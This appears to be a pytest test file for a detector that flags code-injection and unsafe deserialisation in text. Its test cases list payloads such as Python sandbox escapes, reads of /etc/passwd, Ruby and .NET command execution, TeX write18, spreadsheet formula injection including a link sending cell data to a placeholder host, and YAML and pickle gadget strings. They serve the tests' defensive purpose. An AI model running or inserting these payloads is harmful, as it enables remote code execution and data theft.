"""Code and serialised objects of Python, Ruby, Perl, .NET and others are found; texts about them are not."""

from __future__ import annotations

import base64
import pickle
from collections import OrderedDict

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.attacks.weighed import assert_linear, match_examples, wants_what_it_finds, weight

from doorward.attacks.evidence import Place

FILLER = "the cat sat on the mat and looked at us for a long time while it rained "


@pytest.mark.parametrize(
    "text",
    [
        "__import__('os').system('id')",
        "eval(\"__import__('os').popen('id').read()\")",
        "os.system('id')",
        "import os; os.popen('id').read()",
        "subprocess.check_output(['id'])",
        "().__class__.__base__.__subclasses__()",
        "open('/etc/passwd').read()",
        "exec(compile('a','b','exec'))",
        "globals()['__builtins__']",
        "pty.spawn('sh')",
        "{0.__class__.__init__.__globals__}",
        "'+time.sleep(9)+'",
    ],
    ids=ascii,
)
def test_python(text: str) -> None:
    """Imports in expressions, programs, internals, files."""
    assert weight("code", text) >= 1.0


@pytest.mark.parametrize(
    "text",
    [
        "IO.popen('id').read",
        "Kernel.exec('id')",
        "%x(id)",
        "self.send(:system, 'id')",
        "'a'.constantize",
        "qx/id/",
        "'.gethostbyname(lc('a')).'",
        "System.Diagnostics.Process.Start('a')",
        "response.write(8*8)",
        "CreateObject('WScript.Shell')",
        "os.execute('id')",
        "io.popen('id'):read('*a')",
        "<cfexecute name='a'>",
        "\\immediate\\write18{id}",
        "\\input{/etc/passwd}",
        "system-property('xsl:vendor')",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://h.example/?"&A1,"x")',
        "'.system('id').'",
        "\"+eval('1')+\"",
    ],
    ids=ascii,
)
def test_other_languages(text: str) -> None:
    """Ruby, Perl, .NET, ASP, Lua, ColdFusion, TeX, XSLT, spreadsheets, and code after a quote."""
    assert weight("code", text) >= 1.0


@pytest.mark.parametrize(
    "text",
    [
        "!!python/object/apply:os.system ['id']",
        "!!python/object/new:subprocess.Popen [[id]]",
        "!!javax.script.ScriptEngineManager [a]",
        "--- !ruby/object:Gem::Installer",
        "cos\nsystem\n(S'id'\ntR.",
        "c__builtin__\neval\n(Va\ntR.",
        '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
        "AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0s",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
    ],
    ids=ascii,
)
def test_serialised_objects(text: str) -> None:
    """YAML tags, pickles, JSON with types, BinaryFormatter, Java in Base64."""
    assert weight("code", text) >= 1.0


class Calls:
    """Runs a function when it is read back from a pickle."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return eval, ("1",)


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
@pytest.mark.parametrize("encoding", ["latin-1", "utf-8"])
def test_real_pickles(protocol: int, encoding: str) -> None:
    """Of every protocol, however its bytes were made a text."""
    text = pickle.dumps(Calls(), protocol).decode(encoding, "replace")
    assert weight("code", text) >= 1.0


def test_pickles_of_protocol_4_in_base64() -> None:
    """The whole value."""
    assert weight("code", base64.b64encode(pickle.dumps(Calls(), 4)).decode()) >= 1.0


def test_pickles_of_data_are_not_told_by_their_content() -> None:
    """A pickle that calls nothing that reaches out."""
    assert weight("code", pickle.dumps({"a": [1, 2], "os": "system"}, 0).decode("latin-1")) == 0.0
    assert weight("code", pickle.dumps(OrderedDict(a=1), 2).decode("latin-1")) == 0.0


@pytest.mark.parametrize(
    ("name", "is_run"), [("a.aspx", True), ("b.asp;.jpg", True), ("c.cfm.", True), ("d.py", False)]
)
def test_files_that_a_server_runs(name: str, is_run: bool) -> None:
    """ASP, ASP.NET, ColdFusion; as a file's name only."""
    assert (weight("code", name, Place.FILENAME) >= 1.0) is is_run
    assert weight("code", name, Place.QUERY) == 0.0


@pytest.mark.parametrize(
    "text",
    [
        "import os; print(os.getcwd())",
        "os.path.join(a, b)",
        "print('hello')",
        "open('notes.txt')",
        "eval metrics: f1, recall",
        "model.eval()",
        "the kernel. System calls",
        "please send: system logs",
        "=SUM(A1:A9)",
        "- cmd | less",
        "\\usepackage{amsmath}",
        "\\include{intro}",
        "using System.Reflection;",
        "!!str",
        "Hello!! java is hot",
        "{'$type': 'order'}",
        "cos(x)\nsin(x)",
        "an open (day)",
        "'a'.upper()",
        "rO0AB is how they begin",
        "def __init__(self):",
        "nc = numerical control; id = 5",
        "'a', 'b'; system (old)",
    ],
    ids=ascii,
)
def test_what_people_and_programs_write_passes(text: str) -> None:
    """Words of languages, everyday code."""
    assert weight("code", text) < 1.0


TRACEBACK = """I get this traceback when the worker starts, and only on the second machine. What did I miss?
Traceback (most recent call last):
  File "/srv/app/main.py", line 3, in <module>
    subprocess.run(["ls", "-l"], check=True)
OSError: [Errno 2] os.system('x') failed"""
SOURCE = """import os
import subprocess

def main() -> None:
    # find all classes that were made from this one, and print them for the user
    print([cls.__name__ for cls in Base.__subclasses__()])
    subprocess.run(["git", "log"], check=True)
"""


@pytest.mark.parametrize("text", [TRACEBACK, SOURCE], ids=["traceback", "source"])
def test_technical_texts_pass(text: str) -> None:
    """Many words around it."""
    assert weight("code", text) < 1.0


@pytest.mark.parametrize(
    "text",
    ["__import__('os').system('id')", "!!python/object/apply:os.system ['id']", "cos\nsystem\n(S'id'\ntR."],
    ids=ascii,
)
def test_what_is_explicit_is_found_in_long_filler(text: str) -> None:
    """Filler before an attack that could be nothing else does not hide it."""
    assert weight("code", FILLER * 20 + text + " " + FILLER * 20) >= 1.0


@pytest.mark.parametrize(
    "unit",
    [
        "__import__(",
        "os.system(",
        "'.",
        "=cmd",
        "\\input{",
        "cos\n",
        "!!python/",
        "%x(",
        "eval(",
        "response.",
        "open(",
        "$type",
    ],
)
def test_work_doubles_with_the_text(unit: str) -> None:
    """Twice the text is twice the work, and a bound for each character."""
    assert_linear("code", unit, 80)


@given(st.sampled_from(match_examples("code")), st.text(max_size=20), st.text(max_size=20))
def test_the_screen_is_one_sided(example: str, before: str, after: str) -> None:
    """Where something is found, the detector wants the text, also joined with others."""
    assert wants_what_it_finds("code", f"{before}{example}{after}")
